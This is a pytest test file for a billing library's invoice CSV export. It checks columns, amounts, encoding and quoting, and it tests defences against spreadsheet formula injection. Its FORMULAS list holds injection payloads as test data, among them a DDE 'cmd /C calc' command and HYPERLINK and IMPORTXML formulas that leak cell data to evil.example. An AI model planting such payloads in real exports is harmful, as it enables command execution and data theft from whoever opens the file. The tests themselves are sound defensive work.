"""The CSV of an invoice list: readable by programs, and harmless in a spreadsheet."""

import csv
from datetime import date
from decimal import Decimal
from io import StringIO

import pytest
from attrs import evolve
from hypothesis import given
from hypothesis import strategies as st
from tests.unit.reports.happened import JANE, PATEL, noon, usd
from tests.unit.reports.invoices import a_draft, an_invoice, client

from billcore.documents.csv import STANDARD_COLUMNS, Column, invoices_csv, line
from billcore.errors import InvalidInput
from billcore.ids import ClientId
from billcore.invoices.invoice import Invoice
from billcore.invoices.voiding import void
from billcore.money import Money

ON = date(2026, 5, 4)
FREE_TEXT = {Column.DESCRIPTION, Column.NOTES, Column.MEMO, Column.MATTER, Column.REFERENCE}


def rows(*invoices: Invoice, columns: tuple[Column, ...] = STANDARD_COLUMNS) -> list[list[str]]:
    text = b"".join(invoices_csv(invoices, on=ON, columns=columns)).decode()
    return list(csv.reader(StringIO(text, newline=""), strict=True))


def cell(text: str) -> str:
    """What a spreadsheet reads out of the one cell of a line."""
    ((only,),) = csv.reader(StringIO(line([text]).decode(), newline=""), strict=True)
    return only


@pytest.mark.rule("S0.31", "S3.6")
def test_every_invoice_is_a_row_with_status_amount_paid_and_balance() -> None:
    voided, _ = void(an_invoice(usd(10_00), invoice_id="3"), at=noon(ON), by=JANE)

    heading, *listed = rows(
        an_invoice(usd(1234_50), invoice_id="1", paid=200_00), a_draft(Money(80_00, "EUR"), invoice_id="2"), voided
    )

    assert heading == ["Number", "Status", "Client", "Issued", "Due", "Currency", "Amount", "Paid", "Balance"]
    assert listed == [
        ["INV-1", "Overdue", "Patel Family", "2026-04-01", "2026-05-01", "USD", "1234.50", "200.00", "1034.50"],
        ["", "Draft", "", "", "", "EUR", "80.00", "0.00", "0.00"],
        ["INV-3", "Void", "Patel Family", "2026-04-01", "2026-05-01", "USD", "10.00", "0.00", "0.00"],
    ]


def test_a_draft_can_be_given_the_name_of_its_client() -> None:
    lines = invoices_csv([a_draft(usd(1_00))], on=ON, columns=[Column.CLIENT], client_names={PATEL: "Patel Family"})

    assert list(lines) == [b"Client\r\n", b"Patel Family\r\n"]


def test_amounts_have_the_decimals_of_their_currency_and_nothing_else() -> None:
    invoices = [an_invoice(Money(1500, "JPY")), an_invoice(Money(1_500, "KWD")), an_invoice(Money(10**14, "USD"))]

    assert rows(*invoices, columns=(Column.AMOUNT,)) == [["Amount"], ["1500"], ["1.500"], ["1000000000000.00"]]


def test_every_column_can_be_asked_for() -> None:
    invoice = an_invoice(usd(100_00), paid=20_00, in_flight=30_00)
    content = evolve(invoice.content, notes="for you", memo="for us", reference="PO 7", matter="M-1")

    heading, row = rows(evolve(invoice, content=content), columns=tuple(Column))

    assert dict(zip(heading, row, strict=True)) == {
        "Number": "INV-I1",
        "Status": "Overdue",
        "Client": "Patel Family",
        "Issued": "2026-04-01",
        "Due": "2026-05-01",
        "Currency": "USD",
        "Amount": "100.00",
        "Paid": "20.00",
        "Balance": "50.00",
        "Net": "100.00",
        "Tax": "0.00",
        "Credited": "0.00",
        "Written off": "0.00",
        "Late fees": "0.00",
        "In flight": "30.00",
        "Refunded": "0.00",
        "Origin": "typed",
        "Invoice id": "I1",
        "Client id": "patel",
        "Reference": "PO 7",
        "Matter": "M-1",
        "Description": "Tax return",
        "Notes": "for you",
        "Memo": "for us",
    }


def test_the_descriptions_of_all_lines_stand_in_one_cell() -> None:
    invoice = an_invoice(usd(100_00))
    twice = evolve(invoice, content=evolve(invoice.content, lines=invoice.lines * 2))

    assert rows(twice, columns=(Column.DESCRIPTION,)) == [["Description"], ["Tax return; Tax return"]]


@pytest.mark.rule("S3.42")
def test_nothing_says_what_the_work_was_unless_its_column_is_asked_for() -> None:
    invoice = an_invoice(usd(100_00))
    content = evolve(invoice.content, notes="secret", memo="secret", reference="secret", matter="secret")

    file = b"".join(invoices_csv([evolve(invoice, content=content)], on=ON))

    assert b"secret" not in file
    assert b"Tax return" not in file
    assert not FREE_TEXT & set(STANDARD_COLUMNS)


@pytest.mark.parametrize("columns", [(), (Column.NUMBER, Column.NUMBER)])
def test_columns_that_are_none_or_stand_twice_are_refused_before_the_first_line(columns: tuple[Column, ...]) -> None:
    with pytest.raises(InvalidInput, match="at least one column, and each at most once"):
        invoices_csv([], on=ON, columns=columns)


# ── The file ─────────────────────────────────────────────────────────────────────────────────────────────────────────


def test_the_file_is_utf_8_and_begins_with_a_byte_order_mark_only_when_asked_to() -> None:
    zoe = an_invoice(usd(1_00), of=client(ClientId("zoe"), "Zoë 株式会社"))

    plain = list(invoices_csv([zoe], on=ON, columns=[Column.CLIENT]))
    marked = list(invoices_csv([zoe], on=ON, columns=[Column.CLIENT], bom=True))

    assert plain == [b"Client\r\n", "Zoë 株式会社\r\n".encode()]
    assert marked == [b"\xef\xbb\xbfClient\r\n", "Zoë 株式会社\r\n".encode()]


def test_commas_quotes_and_line_breaks_are_quoted_as_rfc_4180_says() -> None:
    assert line(['Smith, Jones & "Co"', "two\r\nlines", "plain"]) == (
        b'"Smith, Jones & ""Co""","two\r\nlines",plain\r\n'
    )


harmless = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="=+-@＝＋－＠﹢﹣⁺⁼₊₌﹦﹫\x00\t\r"))


@given(st.lists(harmless, min_size=2, max_size=5))
def test_harmless_text_comes_back_from_any_csv_reader_as_it_was(texts: list[str]) -> None:
    read = list(csv.reader(StringIO(line(texts).decode(), newline=""), strict=True))

    blank = [text[: len(text) - len(text.lstrip())] for text in texts]
    expected = [f"'{text}" if "\n" in before else text for text, before in zip(texts, blank, strict=True)]
    assert read == [expected]


# ── Formulas ─────────────────────────────────────────────────────────────────────────────────────────────────────────

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "-2+3+cmd|' /C calc'!A0",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "﹦1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\tplain",
    "\rplain",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u2003-1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u2060@A1",
    "\x0b=1+1",
    "\x1f=1+1",
    "\u202e=1+1",
    " \t =1+1",
    '"=1+1',
    '"""=1+1"""',
]


@pytest.mark.rule("S0.31")
@pytest.mark.parametrize("payload", FORMULAS)
def test_text_that_a_spreadsheet_would_run_begins_with_an_apostrophe(payload: str) -> None:
    assert cell(payload).startswith("'")


@pytest.mark.parametrize(
    ("payload", "written"),
    [
        ("\tplain", "'\tplain"),
        ("Smith; =1+1", "Smith;' =1+1"),
        ("Smith\t=1+1", "Smith\t'=1+1"),
        ("Smith\n=1+1", "Smith\n'=1+1"),
        ("Smith\r\n@A1", "Smith\r\n'@A1"),
        ('Smith;"=1+1"', 'Smith;\'"=1+1"'),
    ],
)
def test_a_spreadsheet_that_separates_by_semicolons_or_tabs_finds_no_formula_in_any_part(
    payload: str, written: str
) -> None:
    assert cell(payload) == written


@pytest.mark.parametrize(
    "text",
    ["Patel Family", "Smith-Jones", "a=b", "1+1", "jane@example.com", "5 - 3", "", " ", "'quoted'", "#1", "Ωmega"],
)
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert cell(text) == text


@given(
    st.text("=+-@＝＋－＠ \t\r\n;\"'aé\u00a0\u200b,", min_size=1, max_size=12),
    st.sampled_from([",", ";", "\t"]),
)
def test_whatever_separates_the_cells_no_cell_begins_with_a_formula_sign(text: str, separator: str) -> None:
    written = line([text, Decimal("1.00")]).decode()

    for row in csv.reader(StringIO(written, newline=""), delimiter=separator):
        for seen in row:
            assert seen.lstrip(' \t\r\n\u00a0\u200b"')[:1] not in set("=+-@＝＋－＠") or seen == ""


def test_numbers_stay_numbers_even_below_zero_and_dates_stay_dates() -> None:
    assert line([Decimal("-5.00"), Decimal("0E-2"), Decimal("1E+3"), date(2026, 5, 4), None]) == (
        b"-5.00,0.00,1000,2026-05-04,\r\n"
    )


def test_the_name_of_a_client_cannot_carry_a_formula_into_the_list() -> None:
    evil = an_invoice(usd(1_00), of=client(name="=HYPERLINK(1)"))

    assert rows(evil, columns=(Column.CLIENT, Column.AMOUNT))[1] == ["'=HYPERLINK(1)", "1.00"]
